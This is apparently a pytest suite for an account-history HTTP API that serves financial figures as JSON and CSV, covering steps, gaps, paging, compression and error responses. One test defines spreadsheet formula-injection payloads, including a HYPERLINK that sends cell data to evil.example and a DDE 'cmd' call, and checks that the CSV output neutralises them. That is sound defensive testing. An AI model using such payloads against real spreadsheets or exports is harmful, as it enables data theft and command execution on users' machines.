"""Values and positions over time: figures to the letter, steps, gaps, pages, JSON and CSV."""

import csv
import gzip
import io

import brotli
import pytest
import zstandard
from yarl import URL

from ibconnect.http.app import SERVICES
from ibconnect.http.resources.kept_series import KeptSeries
from ibconnect.http.server.response_cache import ResponseCache
from ibconnect.times import format_rfc3339, parse_rfc3339, to_micros
from tests.projecting import Stream, project, record, value
from tests.serving import DU1, EMPTY, FIRST, PROBLEM, Served, at, build_world, serving

HISTORY = f"/v1/accounts/{DU1}/history"
POSITION = f"/v1/accounts/{DU1}/positions/265598/history"


async def points(served: Served, query: str, path: str = HISTORY) -> list[list[str]]:
    """The rows of a history as CSV: figures as text, without the header and what comes after the figures."""
    async with served.get(f"{path}?{query}", headers={"Accept": "text/csv"}) as response:
        assert response.status == 200, await response.text()
        assert response.headers["Content-Type"] == "text/csv"
        return figures(await response.text())


def forget(served: Served) -> None:
    """Let nothing be answered from memory, which was made with other bounds."""
    served.app[SERVICES].part(KeptSeries).cache = ResponseCache(0)


def figures(text: str) -> list[list[str]]:
    """Times as JSON has them, and figures."""
    header, *rows = csv.reader(io.StringIO(text))
    assert {row[header.index("AccountCode")] for row in rows} <= {DU1, EMPTY}
    assert {row[header.index("Currency")] for row in rows} <= {"USD", "EUR", "CHF", "BASE"}
    width = min(header.index(name) for name in ("Currency", "Ready", "Why", "Partial") if name in header)
    assert {len(row[0]) for row in rows} <= {len("2024-01-01T00:00:00.000000Z")}
    return [[format_rfc3339(parse_rfc3339(row[0])), *row[1:width]] for row in rows]


async def test_a_history_has_a_point_per_snapshot(served: Served) -> None:
    async with served.get(f"{HISTORY}?tag=NetLiquidation&tag=Cushion&from={at(1)}&to={at(2)}") as response:
        assert response.headers["Content-Type"] == "application/json"
        assert response.headers["Cache-Control"] == "private, no-cache"
        assert await response.text() == (
            f'{{"AccountCode":"{DU1}","Segment":null,"Currency":"USD","Step":null,"Points":['
            f'{{"Timestamp":"{at(1)}","NetLiquidation":100001.10,"Cushion":0.912345}},'
            f'{{"Timestamp":"{at(2)}","NetLiquidation":100002.10,"Cushion":0.912345}}]}}'
        )


@pytest.mark.parametrize(
    ("query", "figure"),
    [
        ("tag=NetLiquidation", "100001.10"),
        ("tag=NetLiquidation&segment=S", "90001.10"),
        ("tag=NetLiquidation&currency=USD", "100001.10"),
        ("tag=NetLiquidation&currency=EUR", ""),
        ("tag=BuyingPower&segment=S", ""),
        ("tag=NetLiquidation-S", "90001.10"),
        ("tag=netliquidation&segment=s", "90001.10"),
        ("tag=$LEDGER-AccruedCash", "0"),
        ("tag=$ledger-accruedcash&currency=usd", "0.00"),
        ("tag=DayTradesRemainingT+1", ""),
        ("tag=AccruedCash", "62.6"),
        ("tag=AccruedCash&segment=S", "62.60"),
        ("tag=AccruedCash&currency=BASE", "0"),
        ("tag=AccruedCash&currency=USD", "0.00"),
        ("tag=CashBalance", "7421167.7441"),
        ("tag=CashBalance&currency=EUR", "1001.5"),
        ("tag=CashBalance&currency=USD", "-0.50"),
        ("tag=TotalCashBalance", "-12.3400"),
        ("tag=TotalCashValue", "-0.00"),
        ("tag=BuyingPower", ""),
        ("tag=LookAheadNextChange", "1704067200"),
        ("tag=AccountType", "INDIVIDUAL"),
        ("tag=DayTradingStatus&segment=S", "::false:996937.76::false"),
        ("tag=NewFigureOfTomorrow", "1,5"),
        ("tag=newfigureoftomorrow", "1,5"),
    ],
)
async def test_every_figure_is_found_where_it_belongs(served: Served, query: str, figure: str) -> None:
    assert await points(served, f"{query}&from={at(1)}&to={at(1)}") == [[at(1), figure]]


async def test_texts_are_strings_in_json(served: Served) -> None:
    query = f"tag=AccountType,NewFigureOfTomorrow,BuyingPower&to={at(0)}"
    async with served.get(f"{HISTORY}?{query}") as response:
        assert (await response.json())["Points"] == [
            {"Timestamp": at(0), "AccountType": "INDIVIDUAL", "NewFigureOfTomorrow": "1,5", "BuyingPower": None}
        ]


async def test_a_tag_where_it_is_not_usual_is_json_all_the_same(database_url: str) -> None:
    stream = Stream(at=to_micros(FIRST))
    odd = [
        value("AccountCode", "DU1"),
        value("Cushion-S", "n/a"),
        value("CashBalance-S", "many"),
        value("NetLiquidation", "1", "USD"),
    ]
    stream.refresh({"DU1": odd}, created=to_micros(FIRST))
    record(database_url, stream.events)
    project(database_url)
    path = "/v1/accounts/DU1/history?tag=Cushion,CashBalance&segment=S"
    async with serving(database_url) as served, served.get(path) as response:
        assert (await response.json())["Points"] == [{"Timestamp": at(0), "Cushion": "n/a", "CashBalance": "many"}]


HOSTILE = {
    "TradingType": '=HYPERLINK("http://evil.example/?"&A2,"see, here")',
    "AccountType": "@SUM(1+1)*cmd|' /C calc'!A0",
    "PlainFormula": "=1+1",
    "Leading": "-1+1",
    "Signed": "-0.00",
    "Lines": "+1\\u000d\\u000a=2",
}


async def test_no_text_of_a_gateway_is_a_formula_in_a_spreadsheet(database_url: str) -> None:
    stream = Stream(at=to_micros(FIRST))
    sent = [value("AccountCode", "DU1"), value("NetLiquidation", "-0.50", "USD")]
    stream.refresh({"DU1": [*sent, *(value(tag, text) for tag, text in HOSTILE.items())]}, created=to_micros(FIRST))
    record(database_url, stream.events)
    project(database_url)
    path = f"/v1/accounts/DU1/history?tag=NetLiquidation,{','.join(HOSTILE)}"
    async with serving(database_url) as served:
        async with served.get(path) as response:
            (point,) = (await response.json())["Points"]
        async with served.get(path, headers={"Accept": "text/csv"}) as response:
            header, row = csv.reader(io.StringIO(await response.text(), newline=""))
    cells = dict(zip(header, row, strict=True))
    assert (cells["NetLiquidation"], cells["Signed"]) == ("-0.50", "-0.00"), "figures are figures"
    for tag in set(HOSTILE) - {"Signed"}:
        assert cells[tag] == f"'{point[tag]}", "JSON has the text as it was sent"
        assert point[tag][0] in "=+-@"
    assert not any(name[:1] in "=+-@" for name in header)


async def test_steps_take_the_last_value_and_show_gaps(database_url: str) -> None:
    build_world(database_url, 4, gap_after=1)  # at 0, 1, 5 and 6 hours
    async with serving(database_url) as served:
        two_hours = await points(served, f"tag=NetLiquidation&from={at(0)}&to={at(7)}&step=2h")
        assert two_hours == [[at(0), "100000.10"], [at(2), "100001.10"], [at(4), ""], [at(6), "100003.10"]]
        half = await points(served, f"tag=NetLiquidation&from={at(0.5)}&to={at(1.5)}&step=30m")
        assert half == [[at(0.5), ""], [at(1), "100001.10"], [at(1.5), ""]]
        aligned = await points(served, f"tag=NetLiquidation&step=3h&to={at(6)}")
        assert aligned == [[at(0), "100000.10"], [at(3), "100001.10"], [at(6), "100003.10"]]


async def test_a_position_shows_where_it_was_not_held(served: Served) -> None:
    rows = await points(served, f"from={at(1)}&to={at(2)}", POSITION)
    rest = ["18725.00", "150.12", "3713.00", "0.00"]
    assert rows == [[at(1), "100", "188.25", *rest], [at(2), "100", "189.25", *rest]]
    async with served.get(f"{POSITION}?to={at(0)}") as response:
        history = await response.json()
    assert history["IbContractId"] == 265598
    assert list(history["Points"][0]) == [
        "Timestamp",
        "Position",
        "MarketPrice",
        "MarketValue",
        "AverageCost",
        "UnrealizedPNL",
        "RealizedPNL",
    ]
    assert (await points(served, f"from={at(0)}&to={at(2)}&step=30m", POSITION))[1] == [at(0.5), *[""] * 6]


@pytest.mark.parametrize(
    ("path", "status", "code"),
    [
        (HISTORY, 400, "invalid-parameter"),
        (f"{HISTORY}?tag=", 400, "invalid-parameter"),
        (f"{HISTORY}?tag={'A' * 65}", 400, "invalid-parameter"),
        (f"{HISTORY}?tag=" + ",".join(f"T{n}" for n in range(21)), 400, "invalid-parameter"),
        (f"{HISTORY}?tag=A&step=0h", 400, "invalid-parameter"),
        (f"{HISTORY}?tag=A&step=100y", 400, "invalid-parameter"),
        (f"{HISTORY}?tag=A&step=1h&at=16:00", 400, "invalid-parameter"),
        (f"{HISTORY}?tag=A&at=16:00", 400, "invalid-parameter"),
        (f"{HISTORY}?tag=A&step=1d&at=24:00", 400, "invalid-parameter"),
        (f"{HISTORY}?tag=A&tz=New_York", 400, "invalid-parameter"),
        (f"{HISTORY}?tag=A&from=1y", 400, "invalid-parameter"),
        (f"{HISTORY}?tag=A&from=2024-01-02&to=2024-01-01", 400, "invalid-parameter"),
        (f"{HISTORY}?tag=A&from=-1d&to=-2d&step=1h", 400, "invalid-parameter"),
        (f"{HISTORY}?tag=A&segment=SS", 400, "invalid-parameter"),
        (f"{HISTORY}?tag=A&segment=1", 400, "invalid-parameter"),
        (f"{HISTORY}?tag=A&currency=us", 400, "invalid-parameter"),
        (f"{HISTORY}?tag=A", 400, "unknown-tag"),
        (f"{HISTORY}?tag=NetLiquidation&tag=A", 400, "unknown-tag"),
        (f"{HISTORY}?tag=NetLiquidation&segment=P", 400, "unknown-segment"),
        (f"{HISTORY}?tag=NetLiquidation-P", 400, "unknown-segment"),
        (f"{HISTORY}?tag=NetLiquidation-S&segment=C", 400, "invalid-parameter"),
        (f"{HISTORY}?tag=$LEDGER-CashBalance&segment=S", 400, "invalid-parameter"),
        (f"{HISTORY}?tag=$LEDGER-NetLiquidation", 400, "unknown-tag"),
        (f"{HISTORY}?tag=CashBalance&currency=CHF", 400, "unknown-currency"),
        (f"{HISTORY}?tag=A&frm=-1d", 400, "unknown-parameter"),
        ("/v1/accounts/DU9/history?tag=A", 404, "unknown-account"),
        (f"{HISTORY}?tag=A&gateway=nowhere:4002", 404, "unknown-gateway"),
        (f"{HISTORY}?tag=A&gateway=nowhere", 400, "invalid-parameter"),
        (f"{HISTORY}?tag=A&gateway=%00:4002", 400, "invalid-parameter"),
        ("/v1/accounts/DU9/positions/1/history", 404, "unknown-account"),
        (f"/v1/accounts/{DU1}/positions/1/history", 404, "unknown-position"),
        (f"/v1/accounts/{DU1}/positions/x/history", 400, "invalid-parameter"),
        (f"/v1/accounts/{EMPTY}/positions/265598/history", 404, "unknown-position"),
    ],
)
async def test_what_is_wrong_is_refused(served: Served, path: str, status: int, code: str) -> None:
    async with served.client.get(URL(served.url + path, encoded=True)) as response:
        problem = await response.json(content_type=PROBLEM)
        assert (response.status, problem["type"]) == (status, f"urn:ibconnect:problem:{code}")


async def test_an_account_without_snapshots_has_no_points(served: Served) -> None:
    async with served.get(f"/v1/accounts/{EMPTY}/history?tag=NetLiquidation&step=1d&from=-3d") as response:
        assert [point["NetLiquidation"] for point in (await response.json())["Points"]] == [None] * 4
    async with served.get(f"/v1/accounts/{EMPTY}/history?tag=NetLiquidation") as response:
        assert (await response.json())["Points"] == []


async def test_pages_join_without_a_seam(served: Served, monkeypatch: pytest.MonkeyPatch) -> None:
    whole = await points(served, "tag=NetLiquidation")
    stepped = await points(served, f"tag=NetLiquidation&from={at(0)}&to={at(4)}&step=30m")
    monkeypatch.setattr("ibconnect.http.resources.series_points.POINTS_PAGE", 2)
    forget(served)
    assert await points(served, "tag=NetLiquidation") == whole
    assert len(whole) == 5
    assert await points(served, f"tag=NetLiquidation&from={at(0)}&to={at(4)}&step=30m") == stepped
    assert len(stepped) == 9


@pytest.mark.parametrize("query", ["tag=NetLiquidation", f"tag=NetLiquidation&from={at(0)}&to={at(4)}&step=1h"])
async def test_beyond_the_limit_a_link_leads_on(served: Served, monkeypatch: pytest.MonkeyPatch, query: str) -> None:
    whole = await points(served, query)
    monkeypatch.setattr("ibconnect.http.resources.series_points.POINTS_MAX", 2)
    forget(served)
    found, path = [], f"{HISTORY}?{query}"
    while path:
        async with served.get(path, headers={"Accept": "text/csv"}) as response:
            page = figures(await response.text())
            assert 0 < len(page) <= 2
            found += page
            link = response.links.get("next")
            path = str(link["url"]).removeprefix(served.url) if link else ""
    assert found == whole


@pytest.mark.parametrize(
    ("accept", "media"),
    [
        ("*/*", "application/json"),
        ("text/*", "text/csv"),
        ("text/html, application/json;q=0.2, text/csv;q=0.1", "application/json"),
        ("application/json;q=0, */*", "text/csv"),
    ],
)
async def test_the_form_is_what_the_client_prefers(served: Served, accept: str, media: str) -> None:
    async with served.get(f"{HISTORY}?tag=NetLiquidation", headers={"Accept": accept}) as response:
        assert (response.status, response.content_type) == (200, media)


async def test_no_form_that_the_client_accepts(served: Served) -> None:
    async with served.get(f"{HISTORY}?tag=A", headers={"Accept": "image/png"}) as response:
        assert (response.status, response.content_type) == (406, PROBLEM)


@pytest.mark.parametrize("encoding", ["gzip", "br", "zstd"])
async def test_streams_are_compressed(served: Served, encoding: str) -> None:
    inflate = {
        "gzip": gzip.decompress,
        "br": brotli.decompress,
        "zstd": lambda body: zstandard.ZstdDecompressor().decompressobj().decompress(body),
    }
    url = f"{served.url}{HISTORY}?tag=NetLiquidation&step=5m&from={at(0)}&to={at(4)}"
    headers = {"Accept-Encoding": encoding}
    async with served.client.get(url, headers=headers, auto_decompress=False) as response:
        assert response.headers["Content-Encoding"] == encoding
        assert inflate[encoding](await response.read()).count(b"Timestamp") == 49


async def test_head_sends_no_points(served: Served) -> None:
    async with served.client.head(f"{served.url}{HISTORY}?tag=NetLiquidation") as response:
        assert (response.status, await response.read()) == (200, b"")
